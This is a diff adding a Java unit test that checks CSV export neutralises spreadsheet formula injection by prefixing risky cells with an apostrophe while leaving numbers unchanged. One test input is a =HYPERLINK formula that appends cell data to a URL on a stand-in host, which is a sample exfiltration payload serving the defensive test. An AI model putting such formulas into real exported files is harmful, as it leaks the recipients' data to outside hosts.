@@ -34,6 +34,36 @@ class TableFilesTest {
     }
 
     @Test
+    void csvTextThatASpreadsheetWouldEvaluateIsMadeInertButNumbersStayNumbers(@TempDir Path dir) throws Exception {
+        // Given building names from the registry that a spreadsheet would run as formulas, and negative numbers
+        Path file = dir.resolve("t.csv");
+        List<Row> rows = List.of(
+                new Row("=HYPERLINK(\"http://x.example/?\"&A1,\"klikk\")", -3.5, Set.of()),
+                new Row("+47 skole", null, Set.of()),
+                new Row("-2+3", null, Set.of()),
+                new Row("@SUM(A1:A9)", null, Set.of()),
+                new Row("\tcmd", null, Set.of()),
+                new Row("\rcmd", null, Set.of()),
+                new Row("-12.5", -0.25, Set.of()),
+                new Row("Skole=1", 0.0, Set.of()));
+
+        // When they are written as CSV
+        TableFiles.writeCsv(file, COLUMNS, rows);
+
+        // Then each formula cell starts with an apostrophe (inside the RFC 4180 quotes where it needs them),
+        // text that is a plain number and numeric cells are unchanged, and the JSON export is not concerned
+        assertThat(Files.readString(file)).isEqualTo("name,kwh,quality_flags\r\n"
+                + "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"klikk\"\")\",-3.5,\r\n"
+                + "'+47 skole,,\r\n"
+                + "'-2+3,,\r\n"
+                + "'@SUM(A1:A9),,\r\n"
+                + "'\tcmd,,\r\n"
+                + "\"'\rcmd\",,\r\n"
+                + "-12.5,-0.25,\r\n"
+                + "Skole=1,0,\r\n");
+    }
+
+    @Test
     void writesJsonObjectsWithNumbersNullsAndFlagArrays(@TempDir Path dir) throws Exception {
         Path file = dir.resolve("t.json");
 
